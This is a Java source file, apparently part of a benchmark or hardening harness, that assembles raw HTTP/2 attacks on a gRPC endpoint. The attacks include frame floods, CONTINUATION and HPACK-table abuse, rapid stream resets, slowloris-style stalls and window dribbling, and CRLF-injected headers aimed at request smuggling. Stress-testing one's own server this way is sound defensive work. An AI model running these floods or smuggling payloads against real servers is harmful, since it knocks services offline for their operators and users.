package dev.kiln.bench.attack;

import static dev.kiln.bench.attack.Http2Bytes.CONTINUATION;
import static dev.kiln.bench.attack.Http2Bytes.DATA;
import static dev.kiln.bench.attack.Http2Bytes.END_HEADERS;
import static dev.kiln.bench.attack.Http2Bytes.END_STREAM;
import static dev.kiln.bench.attack.Http2Bytes.GO_AWAY;
import static dev.kiln.bench.attack.Http2Bytes.HEADERS;
import static dev.kiln.bench.attack.Http2Bytes.PADDED;
import static dev.kiln.bench.attack.Http2Bytes.PING;
import static dev.kiln.bench.attack.Http2Bytes.PRIORITY;
import static dev.kiln.bench.attack.Http2Bytes.PUSH_PROMISE;
import static dev.kiln.bench.attack.Http2Bytes.RESET;
import static dev.kiln.bench.attack.Http2Bytes.SETTINGS;
import static dev.kiln.bench.attack.Http2Bytes.WINDOW_UPDATE;
import static dev.kiln.bench.attack.Http2Bytes.frame;
import static dev.kiln.bench.attack.Http2Bytes.join;
import static java.nio.charset.StandardCharsets.ISO_8859_1;

import dev.kiln.bench.lists.HostileList;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.locks.LockSupport;
import java.util.function.IntFunction;

/** The attacks on the gRPC door, as {@link HttpAttacks}. */
final class Http2Attacks {
  private static final int FRAMES = 100_000;
  private static final int STREAMS = 10_000;

  /** Frames of a call that leave it open. */
  private static final byte[] CALL = frame(HEADERS, END_HEADERS, 1, Http2Bytes.evaluate());

  private static final byte[] NOTHING = {};

  private final InetSocketAddress grpc;
  private final long stallNanos;
  private final Map<String, HttpAttacks.Attack> all = new LinkedHashMap<>();

  Http2Attacks(InetSocketAddress grpc, long stallNanos) {
    this.grpc = grpc;
    this.stallNanos = stallNanos;
    addFrames();
    addHeaders();
    addStreams();
    addMalformed();
    all.put("HTTP/2: a start that stops", (_, answers) -> stall(Http2Bytes.start(), 20, answers));
    all.put("HTTP/2: calls that stop", (_, answers) -> stall(openCalls(), 4096, answers));
    all.put("HTTP/2: answers that nobody reads", (_, answers) -> dribble(answers));
    all.put("HTTP/2: noise", this::sendNoise);
  }

  Map<String, HttpAttacks.Attack> all() {
    return all;
  }

  private void addFrames() {
    addFlood("pings", NOTHING, frame(PING, 0, 0, new byte[8]));
    addFlood("settings", NOTHING, frame(SETTINGS, 0, 0));
    addFlood(
        "settings that change",
        NOTHING,
        join(
            frame(SETTINGS, 0, 0, new byte[] {0, 1, 0, 0, 0, 0}),
            frame(SETTINGS, 0, 0, new byte[] {0, 1, 0, 0, 16, 0})));
    addFlood("priorities", NOTHING, frame(PRIORITY, 0, 1, new byte[5]));
    addFlood("empty data", CALL, frame(DATA, 0, 1));
    addFlood("data that is all padding", CALL, frame(DATA, PADDED, 1, new byte[] {0}));
    addFlood("small windows", CALL, frame(WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1}));
    addFlood("goodbyes", NOTHING, frame(GO_AWAY, 0, 0, new byte[8]));
    addFlood("unknown frames", NOTHING, frame(99, 0, 0, new byte[8]));
  }

  private void addHeaders() {
    byte[] open = frame(HEADERS, 0, 1, Http2Bytes.evaluate());
    addFlood("empty continuations", open, frame(CONTINUATION, 0, 1));
    byte[] more = Http2Bytes.headers("a", "b".repeat(1000));
    addFlood("continuations without end", open, frame(CONTINUATION, 0, 1, more));
    addFlood("empty headers", open, frame(CONTINUATION, 0, 1, new byte[300]));
    byte[] indexed = Http2Bytes.headers("a", "b".repeat(3000));
    indexed[0] = 0x40; // the table keeps it
    byte[] references = HttpAttacks.repeat(new byte[] {(byte) 0xbe}, 10_000);
    addStreams(
        "headers out of the table",
        stream ->
            frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                stream,
                stream == 1 ? join(Http2Bytes.evaluate(), indexed) : references));
  }

  private void addStreams() {
    addStreams("resets", stream -> join(call(stream), frame(RESET, 0, stream, 0, 0, 0, 8)));
    all.put("HTTP/2: resets, each in a packet of its own", (_, answers) -> resetSlowly(answers));
    addStreams(
        "resets by a window of nothing",
        stream -> join(call(stream), frame(WINDOW_UPDATE, 0, stream, 0, 0, 0, 0)));
    addStreams(
        "resets by a window too large",
        stream -> join(call(stream), frame(WINDOW_UPDATE, 0, stream, 127, 255, 255, 255)));
    addStreams(
        "resets by a short priority",
        stream -> join(call(stream), frame(PRIORITY, 0, stream, 0, 0, 0, 0)));
    addStreams(
        "resets by a stream that depends on itself",
        stream ->
            join(call(stream), frame(PRIORITY, 0, stream, 0, 0, stream >> 8, stream & 255, 0)));
    addStreams(
        "resets by data behind the end",
        stream -> join(call(stream), frame(DATA, END_STREAM, stream), frame(DATA, 0, stream, 1)));
    addStreams(
        "calls without a message", stream -> join(call(stream), frame(DATA, END_STREAM, stream)));
    addStreams(
        "calls of no method",
        stream ->
            frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                stream,
                Http2Bytes.headers(
                    ":method",
                    "POST",
                    ":scheme",
                    "http",
                    ":path",
                    "/a",
                    ":authority",
                    "a",
                    "te",
                    "trailers",
                    "content-type",
                    "application/grpc")));
  }

  /** What a proxy to HTTP/1.1 would pass on as another request, and what breaks the framing. */
  private void addMalformed() {
    List<byte[]> blocks =
        List.of(
            Http2Bytes.headers("a", "b\r\nc: d"),
            Http2Bytes.headers("a\r\nb", "c"),
            Http2Bytes.headers("a: b", "c"),
            Http2Bytes.headers("A", "b"),
            Http2Bytes.headers("", "b"),
            Http2Bytes.headers("transfer-encoding", "chunked"),
            Http2Bytes.headers("connection", "upgrade"),
            Http2Bytes.headers("content-length", "1"),
            Http2Bytes.headers("content-length", "1, 2"),
            Http2Bytes.headers("content-length", "-1"),
            Http2Bytes.headers("host", "b"),
            Http2Bytes.headers(":path", "/ HTTP/1.1\r\n\r\nGET /x"),
            Http2Bytes.headers(":path", ""),
            Http2Bytes.headers(":method", "GET / HTTP/1.1\r\n"),
            Http2Bytes.headers(":status", "200"),
            Http2Bytes.headers(":authority", "a b"),
            new byte[] {(byte) 0xff, (byte) 0xff, (byte) 0xff, (byte) 0xff, (byte) 0xff, 127},
            new byte[] {(byte) 0x80},
            new byte[] {0, (byte) 0x85, 1});
    List<byte[]> frames =
        List.of(
            frame(DATA, 0, 0, 1),
            frame(DATA, PADDED, 1, 100, 1),
            frame(HEADERS, END_HEADERS, 2, Http2Bytes.evaluate()),
            frame(HEADERS, END_HEADERS | 32, 1, 0),
            frame(CONTINUATION, END_HEADERS, 1),
            frame(PUSH_PROMISE, END_HEADERS, 1, 0, 0, 0, 2),
            frame(SETTINGS, 1, 0, 1),
            frame(SETTINGS, 0, 0, 0, 5, 0, 0, 0, 1),
            frame(SETTINGS, 0, 0, 0, 4, 255, 255, 255, 255),
            frame(PING, 0, 1, new byte[8]),
            frame(RESET, 0, 99, 0, 0, 0, 8),
            frame(DATA, 0, 1, new byte[20_000]));
    all.put(
        "HTTP/2: malformed",
        (random, answers) -> {
          boolean isBlock = random.nextBoolean();
          byte[] block = join(blocks.get(random.nextInt(blocks.size())), Http2Bytes.evaluate());
          sendAndClose(
              isBlock
                  ? frame(HEADERS, END_HEADERS, 1, block)
                  : join(CALL, frames.get(random.nextInt(frames.size()))),
              answers);
        });
    List<byte[]> starts =
        List.of(
            "GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n"
                .getBytes(ISO_8859_1),
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\rx".getBytes(ISO_8859_1),
            frame(SETTINGS, 0, 0));
    all.put(
        "HTTP/2: other starts",
        (random, answers) -> {
          try (var wire = new Wire(grpc)) {
            wire.send(starts.get(random.nextInt(starts.size())));
            wire.shutdownOutput();
            wire.drain();
            answers.add("closed");
          }
        });
  }

  private void resetSlowly(Answers answers) throws IOException {
    try (var wire = new Wire(grpc)) {
      wire.send(Http2Bytes.start());
      for (int stream = 1; stream < 2 * STREAMS; stream += 2) {
        wire.send(call(stream));
        wire.send(frame(RESET, 0, stream, 0, 0, 0, 8));
      }
      answers.add("flooded");
    }
  }

  private static byte[] call(int stream) {
    return frame(HEADERS, END_HEADERS, stream, Http2Bytes.evaluate());
  }

  private static byte[] openCalls() {
    byte[] calls = NOTHING;
    for (int stream = 1; stream < 200; stream += 2) {
      calls = join(calls, call(stream));
    }
    return join(Http2Bytes.start(), calls);
  }

  /** Sends the same frames again and again. */
  private void addFlood(String name, byte[] start, byte[] frames) {
    byte[] many = HttpAttacks.repeat(frames, 1000);
    add(name, join(Http2Bytes.start(), start), many, FRAMES / 1000);
  }

  /** Opens stream after stream. */
  private void addStreams(String name, IntFunction<byte[]> frames) {
    var parts = new byte[STREAMS][];
    for (int i = 0; i < STREAMS; i++) {
      parts[i] = frames.apply(2 * i + 1);
    }
    add(name, Http2Bytes.start(), join(parts), 1);
  }

  private void add(String name, byte[] start, byte[] many, int times) {
    all.put(
        "HTTP/2: " + name,
        (_, answers) -> {
          try (var wire = new Wire(grpc)) {
            wire.send(start);
            wire.flood(many, times);
            answers.add("flooded");
          }
        });
  }

  private void stall(byte[] bytes, int most, Answers answers) throws IOException {
    try (var wire = new Wire(grpc)) {
      wire.send(Arrays.copyOf(bytes, Math.min(most, bytes.length)));
      LockSupport.parkNanos(stallNanos);
      answers.add("not sent");
    }
  }

  /** Asks for answers and takes them one byte at a time. */
  private void dribble(Answers answers) throws IOException {
    byte[] noWindow = frame(SETTINGS, 0, 0, 0, 4, 0, 0, 0, 0);
    byte[] message = Http2Bytes.message(Http2Bytes.request(HostileList.SMALL_ITEMS.ofSize(8_000)));
    try (var wire = new Wire(grpc)) {
      wire.send(join(Http2Bytes.start(), noWindow));
      for (int stream = 1; stream < 40; stream += 2) {
        wire.send(join(call(stream), frame(DATA, END_STREAM, stream, message)));
      }
      for (int i = 0; i < 50; i++) {
        for (int stream = 1; stream < 40; stream += 2) {
          wire.send(frame(WINDOW_UPDATE, 0, stream, 0, 0, 0, 1));
        }
        LockSupport.parkNanos(stallNanos / 50);
      }
      answers.add("not read");
    }
  }

  private void sendNoise(Random random, Answers answers) throws IOException {
    byte[] noise = NOTHING;
    for (int i = 0; i < 100; i++) {
      byte[] payload = new byte[random.nextInt(200)];
      random.nextBytes(payload);
      noise =
          join(noise, frame(random.nextInt(12), random.nextInt(256), random.nextInt(9), payload));
    }
    sendAndClose(noise, answers);
  }

  private void sendAndClose(byte[] frames, Answers answers) throws IOException {
    try (var wire = new Wire(grpc)) {
      wire.send(join(Http2Bytes.start(), frames));
      wire.shutdownOutput();
      wire.drain();
      answers.add("closed");
    }
  }
}
